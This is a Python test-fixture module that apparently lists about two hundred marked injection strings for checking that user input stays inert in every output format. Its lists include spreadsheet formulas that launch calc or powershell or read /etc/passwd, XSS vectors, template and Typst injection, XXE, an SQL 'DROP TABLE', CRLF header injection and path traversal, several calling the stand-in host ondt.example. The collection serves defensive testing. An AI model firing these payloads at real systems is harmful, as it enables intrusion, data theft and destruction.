r"""Two hundred texts that are meant to be more than text: one of them in every field that people fill.

`¤` stands for the mark of the field, so that what became of it is found in whatever leaves the system. A
template or a Typst file that is run writes the mark in capitals.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

MARK: Final = "¤"
HOST: Final = "ondt.example"

FORMULAS = (
    '=1+1&"¤"',
    "=¤",
    "+¤",
    "-¤",
    "@¤",
    "==¤",
    "=-¤",
    "-2+3+cmd|' /C calc'!¤",
    "+cmd|' /C calc'!¤",
    "=cmd|'/C powershell ¤'!A0",
    "@SUM(1+1)*cmd|' /C calc'!¤",
    '=HYPERLINK("https://ondt.example/?x="&A1;"¤")',
    '=HYPERLINK("https://ondt.example/","¤")',
    '=WEBSERVICE("https://ondt.example/¤")',
    '=IMPORTXML(CONCAT("https://ondt.example/¤",A1:A9),"//a")',
    '=IMAGE("https://ondt.example/¤.png")',
    '=DDE("soffice";"/etc/passwd";"¤")',
    "='file:///etc/passwd'#$passwd.A1&\"¤\"",
    '{=SUM(A1:A9)&"¤"}',
    '=EXEC("calc")&"¤"',
    '\t=1+1&"¤"',
    '\r=1+1&"¤"',
    '\n=1+1&"¤"',
    '\r\n+1+1&"¤"',
    ' =1+1&"¤"',
    '\u00a0=1+1&"¤"',
    '\ufeff=1+1&"¤"',
    '\u200b=1+1&"¤"',
    '\'=1+1&"¤"',
    '＝1+1&"¤"',
    '＋1+1&"¤"',
    '－1+1&"¤"',
    '＠SUM(1;1)&"¤"',
    '%0A=1+1&"¤"',
    "_x003D_1+1 ¤",
    "=1+1;=2+2;¤",
)
SEPARATORS = (
    '";=1+1&"¤"',
    '",=1+1,"¤',
    '"\r\n=1+1;"¤"',
    '"\n"=1+1","¤',
    '¤"";"";"=1+1',
    ";;;;=1+1;¤",
    ",,,,=1+1,¤",
    "¤\r\n=1+1",
    "¤\n\n=1+1",
    'sep=;\r\n=1+1;"¤"',
    '"¤',
    '¤"',
    "|=1+1|¤",
    "¤\x1f=1+1\x1e",
)
MARKUP = (
    "<script>¤()</script>",
    "</script><script>¤()</script>",
    "<ScRiPt src=https://ondt.example/¤.js></sCrIpT>",
    "<script\x0c>¤()</script>",
    "<<script>¤()//<</script>",
    "<script src=//ondt.example/¤>",
    "<img src=x onerror=¤()>",
    "<img src=https://ondt.example/¤.gif>",
    '"><img src=x onerror="¤()">',
    "'><img src=x onerror='¤()'>",
    '" onmouseover="¤()" x="',
    "' onfocus='¤()' autofocus x='",
    "x onfocus=¤() autofocus ",
    "` onload=¤() `",
    "<svg onload=¤()>",
    "<svg/onload=¤()>",
    "<svg><animate onbegin=¤() attributeName=x></svg>",
    "<svg><a xlink:href=javascript:¤()><text y=20>x</text></a></svg>",
    "</svg><script>¤()</script>",
    "</text></svg><img src=x onerror=¤()>",
    "<math><mi xlink:href=javascript:¤()>x</mi></math>",
    "<iframe src=https://ondt.example/¤></iframe>",
    "<iframe srcdoc='<script>¤()</script>'>",
    "<object data=javascript:¤()>",
    "<embed src=https://ondt.example/¤>",
    "<base href=https://ondt.example/¤/>",
    '<meta http-equiv=refresh content="0;url=https://ondt.example/¤">',
    "<link rel=stylesheet href=https://ondt.example/¤.css>",
    "<style>@import 'https://ondt.example/¤.css'</style>",
    "<div style=background:url(https://ondt.example/¤)>",
    "<form action=https://ondt.example/¤><input name=a autofocus onfocus=¤()>",
    "<button formaction=javascript:¤()>Gem</button>",
    "</textarea><script>¤()</script>",
    "</title><script>¤()</script>",
    "</option></select><script>¤()</script>",
    "</td></tr></table><script>¤()</script>",
    "</p></div></main></body></html><script>¤()</script>",
    "<!--¤",
    "--><script>¤()</script>",
    "<!-- --!><img src=x onerror=¤()>",
    "<![CDATA[<script>¤()</script>]]>",
    "<?xml-stylesheet href='javascript:¤()'?>",
    "<details open ontoggle=¤()>",
    "<video><source onerror=¤()></video>",
    "<template><script>¤()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=¤()>'>",
    "<plaintext>¤",
    "<a href=javascript:¤()>klik</a>",
    '<a href="&#106;avascript:¤()">klik</a>',
    "<a href=https://ondt.example/¤ ping=https://ondt.example/>klik</a>",
    "&lt;script&gt;¤()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;¤()",
    "＜script＞¤()＜/script＞",
    "\u003cscript\u003e¤()\\u003c/script\\u003e",
    "+ADw-script+AD4-¤()+ADw-/script+AD4-",
    "<b>¤</b><i>x</i><a href='https://ondt.example/¤'>x</a>",
)
TEMPLATES = (
    '{{ "¤"|upper }}',
    "{% filter upper %}¤{% endfilter %}",
    '{% include "¤" %}',
    "{% load ¤ %}",
    "{# ¤ #}",
    "{{ request.user.password }}¤",
    "${'¤'.toUpperCase()}",
    "{{'¤'.toUpperCase()}}",
    '<%= "¤".upcase %>',
    "#{'¤'.upcase}",
    "%(¤)s %s %d %",
    "{0.__class__} {¤} {",
)
TYPST = (
    '#upper("¤")',
    '#panic("¤")',
    '#link("https://ondt.example/¤")[klik]',
    '#read("/etc/passwd") ¤',
    '#include "¤.typ"',
    '#import "@preview/¤:0.1.0"',
    '#eval("upper(\\"¤\\")")',
    "#set text(fill: white) ¤",
    '] #upper("¤") [',
    '}) #upper("¤") #({',
    '" + upper("¤") + "',
    "$ sum_(k=1)^¤ k $",
    "*¤* _¤_ `¤` <¤> @¤",
    "= ¤",
    "/* ¤",
    "// ¤",
    "#sys.inputs ¤",
    '\\u{23}upper("¤")',
)
ESCAPES = (
    "\x00¤",
    "¤\x00<script>",
    "\x1b[31m¤\x1b[0m",
    "\x1b]0;¤\x07",
    "\x1b]8;;https://ondt.example/¤\x07klik\x1b]8;;\x07",
    "\x9b31m¤",
    "\x08\x08\x08¤",
    "\x7f¤",
    "¤\x0b\x0c",
    "¤\x85\u2028\u2029x",
    "\u202e¤\u202c",
    "\u2066¤\u2069",
    "\u200f¤\u200e",
    "¤\u200b\u200c\u200d\u2060",
    "\ufeff¤",
    "¤\ufffe\uffff",
    "¤\U000e0041\U000e0042",
    "¤\ue000",
    "_x000D__x0000_¤",
)
LINES = (
    "¤\r\nBcc: alle@ondt.example",
    "¤\nBcc: alle@ondt.example",
    "¤\r\n\r\n<script>¤()</script>",
    "¤\r\nSet-Cookie: a=¤",
    "¤\r\nContent-Type: text/html",
    "¤%0d%0aBcc:%20alle@ondt.example",
    "¤\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x",
    "¤\nATTACH:https://ondt.example/¤",
    "¤;ATTENDEE=mailto:alle@ondt.example",
    '¤\n{"level": "ERROR", "message": "opdigtet"}',
    "=?utf-8?q?=0D=0ABcc:_alle@ondt.example?= ¤",
)
STRUCTURES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;¤</x>',
    "&e; &#0; &#x1F600; ¤",
    "]]>¤<![CDATA[",
    '</t></is></c><c t="str"><f>1+1</f></c>¤',
    '</a:t></a:r><a:hlinkClick r:id="rId9"/>¤',
    "</si><si><t>¤",
    '","level":"ERROR","¤":"',
    '"}],"value":[1],"¤":[{"',
    '\\",\\"¤',
    "\\u0022¤\\",
    "__proto__ ¤",
    '&A&P&"Arial"&K000000¤',
    "(¤) Tj /JS (app.alert\\(1\\)) endobj",
    "'; DROP TABLE goals_figure; -- ¤",
)
ADDRESSES = (
    "javascript:¤()",
    "JaVaScRiPt:¤()",
    "java\tscript:¤()",
    "\x01javascript:¤()",
    "data:text/html,<script>¤()</script>",
    "vbscript:¤",
    "//ondt.example/¤",
    "/\\ondt.example/¤",
    "https://ondt.example/¤",
    "file:///etc/passwd?¤",
    "../../../../etc/¤",
    "C:\\windows\\¤:strøm",
)
LETTERS = (
    "Ære være Ærø ÆØÅ æøå ¤",
    "A\u030ar\u00f8, AE\u0301, O\u0338 ¤",
    "Århus og Aarhus ¤",
    "œ ß ı İ ﬀ Ǆ ¤",
    "Å¤",
    "¤ 👩‍👧‍👦 𝔐𝔞𝔞𝔩𝔱𝔞𝔩",
)
LONG = ("¤" + "æ" * 1990, "¤ " + "<b>" * 650)
PAYLOADS: Final = (
    *FORMULAS,
    *SEPARATORS,
    *MARKUP,
    *TEMPLATES,
    *TYPST,
    *ESCAPES,
    *LINES,
    *STRUCTURES,
    *ADDRESSES,
    *LETTERS,
    *LONG,
)
MUST_STAND_FIRST = frozenset((*ADDRESSES, "= ¤", "\x00¤"))
"""What is live only at the beginning of an attribute or a line; at that of a cell a formula is."""


def packed(payloads: Sequence[str]) -> list[str]:
    """Several to a text, so that a trial asks for every page once for all of them: one that must stand first,
    and others behind it. One that is live brings the mark where it must not be, wherever it stands. The long
    ones stand alone."""
    long = [payload for payload in payloads if payload in LONG]
    first = [payload for payload in payloads if payload in MUST_STAND_FIRST]
    others = [payload for payload in payloads if payload not in {*MUST_STAND_FIRST, *LONG}]
    packs = first or others[:1]
    others = others if first else others[1:]
    return [*(" ".join([one, *others[number :: len(packs)]]) for number, one in enumerate(packs)), *long]


def formulas(payloads: Sequence[str]) -> list[str]:
    """Those that are live where a cell begins with them: each must be tried alone in what has cells."""
    return [payload for payload in payloads if payload in FORMULAS]
